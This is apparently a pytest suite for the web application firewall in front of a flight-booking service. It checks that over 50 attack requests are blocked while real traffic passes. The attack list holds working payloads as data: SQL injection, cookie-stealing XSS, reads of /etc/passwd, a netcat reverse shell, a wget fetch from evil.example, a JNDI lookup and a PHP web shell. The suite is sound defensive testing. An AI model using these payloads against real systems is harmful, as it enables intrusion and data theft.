"""The firewall tier: classic attacks get 403 and never reach an app server; lastseat's own
traffic passes untouched; limits per client address; a deny list; a body size limit."""

from __future__ import annotations

import asyncio
import os
import subprocess
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.flights import flight_body
from tests.support.leaks import (
    RECORDINGS_ENV,
    RecordedRequest,
    ResponseScanner,
    recorded_by_others,
)
from tests.support.stack import DOMAIN, Stack, eventually_in

F = "/api/v1/flights"
LOGIN = "/api/v1/auth/login"
SIGNUP = "/api/v1/auth/signup"
HOLDS = "/api/v1/holds"
# What the last test sends again through the firewall: every request these suites made.
REPLAYED_SUITES = ("tests/integration/", "tests/e2e/")

# (family, method, path, JSON body or None, extra headers)
ATTACKS: list[tuple[str, str, str, Any, dict[str, str]]] = [
    # SQL injection, in the query string
    ("sqli", "GET", F + "?origin=' OR 1=1--", None, {}),
    ("sqli", "GET", F + "?origin=1 UNION SELECT password FROM users", None, {}),
    ("sqli", "GET", F + "?destination=1; DROP TABLE users--", None, {}),
    ("sqli", "GET", F + "?origin=admin'--", None, {}),
    ("sqli", "GET", F + "?origin=1' AND SLEEP(5)--", None, {}),
    ("sqli", "GET", F + "?origin=' UNION ALL SELECT NULL,NULL--", None, {}),
    ("sqli", "GET", F + "?q=1' WAITFOR DELAY '0:0:5'--", None, {}),
    ("sqli", "GET", F + "?origin=1 AND (SELECT 1 FROM pg_sleep(5))", None, {}),
    ("sqli", "GET", F + "?id=1;SELECT pg_sleep(10)", None, {}),
    ("sqli", "GET", F + "?date=2030-01-01' or '1'='1", None, {}),
    # SQL injection, in JSON bodies
    ("sqli", "POST", LOGIN, {"email": "' OR '1'='1' --", "password": "x"}, {}),
    ("sqli", "POST", LOGIN, {"email": "a@b.c' UNION SELECT * FROM users--", "password": "x"}, {}),
    ("sqli", "POST", HOLDS, {"flight_id": 1, "seats": ["1A' OR 1=1--"]}, {}),
    ("sqli", "POST", "/api/v1/admin/discounts", {"code": "X'; DROP TABLE discount_codes;--"}, {}),
    (
        "sqli",
        "POST",
        SIGNUP,
        {"email": "x@y.z' AND 1=(SELECT COUNT(*) FROM users)--", "password": "p"},
        {},
    ),
    # (a cookie of the site's own: lastseat's session and CSRF tokens are exempt, see 1001)
    ("sqli", "GET", F, None, {"Cookie": "theme=' OR 1=1--"}),
    # cross-site scripting
    ("xss", "GET", F + "?origin=<script>alert(1)</script>", None, {}),
    ("xss", "GET", F + "?q=<img src=x onerror=alert(1)>", None, {}),
    ("xss", "GET", F + "?q=javascript:alert(document.cookie)", None, {}),
    ("xss", "GET", F + "?q=<svg/onload=alert(1)>", None, {}),
    ("xss", "GET", F + "?q=<iframe src=javascript:alert(1)>", None, {}),
    (
        "xss",
        "GET",
        F + "?q=\"><script>document.location='http://evil/'+document.cookie</script>",
        None,
        {},
    ),
    ("xss", "POST", SIGNUP, {"email": "<script>alert(1)</script>@x.io", "password": "p"}, {}),
    ("xss", "GET", F, None, {"Referer": "<script>alert(1)</script>"}),
    ("xss", "GET", F + "?q=<body onload=alert('x')>", None, {}),
    # path traversal and restricted files
    ("lfi", "GET", "/api/v1/%2e%2e/%2e%2e/etc/passwd", None, {}),
    ("lfi", "GET", F + "?file=../../../../etc/passwd", None, {}),
    ("lfi", "GET", F + "?file=..%2f..%2f..%2fetc%2fshadow", None, {}),
    ("lfi", "GET", F + "?file=/etc/passwd", None, {}),
    ("lfi", "GET", F + "?path=..\\..\\..\\windows\\win.ini", None, {}),
    ("lfi", "GET", "/.env", None, {}),
    ("lfi", "GET", "/.git/config", None, {}),
    ("lfi", "GET", "/.htaccess", None, {}),
    # remote command execution
    ("rce", "GET", F + "?cmd=;cat /etc/passwd", None, {}),
    ("rce", "GET", F + "?q=$(whoami)", None, {}),
    ("rce", "GET", F + "?q=| nc -e /bin/sh 10.0.0.1 4444", None, {}),
    ("rce", "GET", F + "?q=;wget http://evil.example/x.sh", None, {}),
    ("rce", "POST", LOGIN, {"email": "a@b.c; /bin/bash -i", "password": "x"}, {}),
    ("rce", "GET", F + "?q=${jndi:ldap://evil.example/a}", None, {}),
    ("rce", "GET", F + "?q=powershell.exe -nop -w hidden -c iex", None, {}),
    # scanners
    ("scanner", "GET", F, None, {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("scanner", "GET", F, None, {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}),
    ("scanner", "GET", F, None, {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
    (
        "scanner",
        "GET",
        F,
        None,
        {"User-Agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
    ),
    (
        "scanner",
        "GET",
        F,
        None,
        {"User-Agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
    ),
    ("scanner", "GET", F, None, {"User-Agent": "dirbuster"}),
    # PHP, remote file inclusion, Node.js, session fixation, response splitting
    ("php", "GET", F + "?q=<?php system($_GET['c']); ?>", None, {}),
    ("php", "GET", F + "?file=php://filter/convert.base64-encode/resource=index.php", None, {}),
    ("rfi", "GET", F + "?url=http://1.2.3.4/evil.txt", None, {}),
    ("rfi", "GET", F + "?page=http://evil.example/shell.txt?", None, {}),
    ("nodejs", "GET", F + "?q=require('child_process').exec('id')", None, {}),
    ("fixation", "GET", F + '?q=<meta http-equiv="Set-Cookie" content="sid=1">', None, {}),
    ("splitting", "GET", F + "?q=%0d%0aSet-Cookie:%20sid=1", None, {}),
]


async def test_classic_attacks_are_blocked_before_any_app_server(stack: Stack) -> None:
    assert len(ATTACKS) >= 50
    run = uuid.uuid4().hex[:8]
    passed = []
    async with stack.client() as client:
        for index, (family, method, path, body, headers) in enumerate(ATTACKS):
            request_id = f"attack-{run}-{index}"
            response = await client.request(
                method, path, json=body, headers={**headers, "X-Request-ID": request_id}
            )
            if response.status_code != 403:
                passed.append((family, path, body, headers, response.status_code))
                continue
            assert response.headers["content-type"] == "application/problem+json"
            assert response.json()["type"] == "urn:lastseat:problem:firewall-blocked"
            assert response.headers["x-request-id"] == request_id
        marker = f"after-attacks-{run}"
        assert (await client.get(F, headers={"X-Request-ID": marker})).status_code == 200
    assert not passed, f"not blocked: {passed}"
    await eventually_in(stack, "app", marker)  # the app log is written up to this request
    assert f"attack-{run}" not in stack.log("app")
    await eventually_in(stack, "firewall", f"attack-{run}")


def test_the_firewall_workers_allocate_with_jemalloc_and_the_proxy_with_glibc(
    stack: Stack,
) -> None:
    """docs/firewall.md: the firewall's nginx (ModSecurity's C++ strings, made and freed per
    rule) runs on jemalloc; the proxy tier, with no ModSecurity, on glibc's malloc."""
    tiers = stack.tiers()
    for name, allocator in (("firewall", True), ("proxy", False)):
        children = subprocess.run(
            ["pgrep", "-P", str(tiers[name])], capture_output=True, text=True, check=True
        ).stdout.split()
        workers = [
            pid
            for pid in children
            if b"worker process" in Path(f"/proc/{pid}/cmdline").read_bytes()
        ]
        assert workers, name
        for pid in workers:
            maps = Path(f"/proc/{pid}/maps").read_text()
            assert ("libjemalloc.so" in maps) is allocator, (name, pid)


async def test_lastseat_own_traffic_passes_untouched(stack: Stack) -> None:
    """Bodies a legitimate client sends, with awkward but valid values: no false positive."""
    made = stack.lastseat("admin", "create-user", "waf-admin@example.com", "--password",
                         "admin password 1", "--admin")  # fmt: skip
    assert made.returncode == 0, made.stderr
    async with stack.client() as client:
        password = 'it\'s "quoted" -- or 1=1; select'  # people pick passwords like this
        signup = await client.post(
            SIGNUP, json={"email": "o'brien@example.com", "password": password}
        )
        assert signup.status_code == 201, signup.text
        login = await client.post(
            LOGIN, json={"email": "o'brien@example.com", "password": password}
        )
        assert login.status_code == 200, login.text
        ann = {"Authorization": f"Bearer {login.json()['access_token']}"}
        admin_login = await client.post(
            LOGIN, json={"email": "waf-admin@example.com", "password": "admin password 1"}
        )
        admin = {"Authorization": f"Bearer {admin_login.json()['access_token']}"}
        flight = await client.post(
            "/api/v1/admin/flights",
            json=flight_body(departs_at="2031-03-01T08:30:00Z", code="LS777"),
            headers=admin,
        )
        assert flight.status_code == 201, flight.text
        flight_id = flight.json()["id"]
        code = await client.post(
            "/api/v1/admin/discounts",
            json={"code": "SPRING-25", "kind": "percent", "value": 2500, "max_redemptions": 10},
            headers=admin,
        )
        assert code.status_code == 201, code.text
        checks = [
            await client.get(
                F, params={"origin": "LHR", "destination": "JFK", "date": "2031-03-01"}
            ),
            await client.get(f"{F}/{flight_id}/seats"),
            await client.get("/api/v1/me", headers=ann),
            await client.get("/api/v1/config"),
        ]
        hold = await client.post(
            HOLDS, json={"flight_id": flight_id, "seats": ["12A", "12B"]},
            headers={**ann, "Idempotency-Key": "waf-hold-1"},
        )  # fmt: skip
        assert hold.status_code == 201, hold.text
        hold_id = hold.json()["id"]
        checks.append(
            await client.get(f"/api/v1/holds/{hold_id}/quote?discount_code=SPRING-25", headers=ann)
        )
        checks.append(
            await client.get(f"/api/v1/holds/{hold_id}/quote?discount_code=NOPE", headers=ann)
        )
        booking = await client.post(
            "/api/v1/bookings",
            json={
                "hold_id": hold_id,
                "discount_code": "SPRING-25",
                "payment": {"token": "tok_ok"},
                # names as passports have them: an apostrophe is not an injection
                "passengers": [
                    {"seat": "12A", "given_name": "Siobhán", "family_name": "O'Brien"},
                    {"seat": "12B", "given_name": "Jean-Luc", "family_name": "D'Arcy"},
                ],
            },
            headers={**ann, "Idempotency-Key": "waf-book-1"},
        )
        assert booking.status_code == 201, booking.text
        checks.append(
            await client.post(f"/api/v1/bookings/{booking.json()['id']}/cancel", headers=ann)
        )
        checks.append(
            await client.get(f"/api/v1/admin/flights/{flight_id}/manifest", headers=admin)
        )
        checks.append(
            await client.post(
                "/api/v1/me/password",
                json={"current_password": password, "new_password": "new pass; drop <b>bold</b>"},
                headers=ann,
            )
        )
        # Session and CSRF tokens the WAF once blocked: random base64url holding "9--" runs.
        for cookie in (
            "lastseat_session=19sJGvnzOQIqK1DBkoWHPTNrdfLbBq6JK36ysbA1ZRg; "
            "lastseat_csrf=2-D88y-ToFqLcASZ6j4w--WDRAN88b36",
            "lastseat_session=iNUwFq9kGlmF__lJ45I4jiH--DtzhUU-rLGK0cA_xTY; "
            "lastseat_csrf=6--dpzvBLUuTOrJrnrDROlsoQKl1c03y",
        ):
            checks.append(await client.get(F, headers={"Cookie": cookie}))
        for response in checks:
            assert response.status_code < 400, (response.request.url, response.text)


async def pipelined_answers(
    stack: Stack, local_address: str, count: int, connections: int, path: str = F
) -> list[httpx.Response]:
    """`count` GETs of `path` from one address, written back to back on keep-alive
    connections (HTTP/1.1 pipelining): they arrive as fast as the firewall reads them,
    however slow this client is, so the burst is a burst on any machine. Every answer."""
    request = f"GET {path} HTTP/1.1\r\nHost: {DOMAIN}\r\n\r\n".encode()

    async def one_connection(n: int) -> list[httpx.Response]:
        reader, writer = await asyncio.open_connection(
            "127.0.0.1",
            stack.settings.https_port,
            ssl=stack.ssl_context(),
            server_hostname=DOMAIN,
            local_addr=(local_address, 0),
        )
        answers: list[httpx.Response] = []
        try:
            writer.write(request * n)
            await writer.drain()
            received = b""
            while len(answers) < n:
                chunk = await asyncio.wait_for(reader.read(65536), timeout=30)
                if not chunk:
                    break
                received = _take_answers(received + chunk, answers, stack.url + path)
            return answers
        finally:
            writer.close()

    per_connection = count // connections
    answers = await asyncio.gather(*(one_connection(per_connection) for _ in range(connections)))
    return [answer for connection in answers for answer in connection]


def _take_answers(received: bytes, answers: list[httpx.Response], url: str) -> bytes:
    """The complete answers at the start of `received` appended to `answers` (each with a
    Content-Length, as nginx sends them here); what is left of `received`."""
    while True:
        head, blank, rest = received.partition(b"\r\n\r\n")
        if not blank:
            return received
        status_line, *lines = head.decode("latin-1").split("\r\n")
        headers = [(name, value) for name, _, value in (line.partition(": ") for line in lines)]
        length = int(next(v for k, v in headers if k.lower() == "content-length"))
        if len(rest) < length:
            return received
        answers.append(
            httpx.Response(
                int(status_line.split()[1]),
                headers=headers,
                content=rest[:length],
                request=httpx.Request("GET", url),
            )
        )
        received = rest[length:]


async def pipelined_burst(
    stack: Stack, local_address: str, count: int, connections: int, path: str = F
) -> list[int]:
    """pipelined_answers' statuses."""
    answers = await pipelined_answers(stack, local_address, count, connections, path)
    return [answer.status_code for answer in answers]


async def test_a_burst_from_one_address_is_limited_while_another_is_served(stack: Stack) -> None:
    statuses = await pipelined_burst(stack, "127.0.0.2", count=800, connections=8)
    async with stack.client(local_address="127.0.0.3") as calm:
        served_meanwhile = await calm.get(F)
    assert len(statuses) == 800
    assert statuses.count(429) > 0, "no 429 in a burst of 800"
    assert statuses.count(200) >= 200  # the burst allowance was served
    assert set(statuses) <= {200, 429}
    assert served_meanwhile.status_code == 200


async def test_denied_addresses_and_oversized_bodies_are_refused(stack: Stack) -> None:
    async with stack.client(local_address="127.0.0.66") as denied:
        response = await denied.get(F)
        assert response.status_code == 403
        assert response.headers["content-type"] == "application/problem+json"
    async with stack.client() as client:
        big = await client.post(SIGNUP, content=b"{" + b" " * 200_000 + b"}",
                                headers={"Content-Type": "application/json"})  # fmt: skip
        assert big.status_code == 413
        assert big.json()["type"] == "urn:lastseat:problem:payload-too-large"


@pytest.mark.runs_after(*REPLAYED_SUITES)
async def test_every_request_the_api_and_e2e_suites_made_passes_the_firewall(
    stack: Stack, request: pytest.FixtureRequest, no_secret_in_any_response: ResponseScanner
) -> None:
    """Zero false positives: each request the app accepted (2xx/3xx) anywhere in this run's
    API and end-to-end suites is sent again through the firewall, which must not block it.
    (It then reaches the stack's own app servers, where a foreign token just gets a 401.)"""
    in_session = any(item.nodeid.startswith(REPLAYED_SUITES) for item in request.session.items)
    accepted = dict(no_secret_in_any_response.accepted)
    if RECORDINGS_ENV in os.environ:  # `make test`: the suites ran in parallel workers before
        accepted.update(recorded_by_others(Path(os.environ[RECORDINGS_ENV])))
        in_session = in_session or bool(accepted)
    recorded = list(accepted.values())
    assert in_session, "this replays what tests/integration and tests/e2e sent: run them too"
    assert len(recorded) >= 100, f"only {len(recorded)} requests recorded"
    addresses = [f"127.0.0.{n}" for n in range(10, 60)]  # spread over the per-address limit
    clients = [stack.client(local_address=a) for a in addresses]
    limit = asyncio.Semaphore(16)
    blocked: list[str] = []

    async def replay(index: int, item: RecordedRequest) -> None:
        client = clients[index % len(clients)]
        headers = {**dict(item.headers), "Host": DOMAIN}
        async with limit:
            for _ in range(5):
                response = await client.request(
                    item.method, item.target, content=item.body, headers=headers
                )
                if response.status_code != 429:
                    break
                await asyncio.sleep(1)
        if response.status_code == 403 and "firewall-blocked" in response.text:
            blocked.append(f"{item.method} {item.target} {item.body[:200]!r} ({item.test})")

    try:
        await asyncio.gather(*(replay(i, item) for i, item in enumerate(recorded)))
    finally:
        for client in clients:
            await client.aclose()
    assert not blocked, f"{len(blocked)} of {len(recorded)} blocked:\n" + "\n".join(blocked[:30])
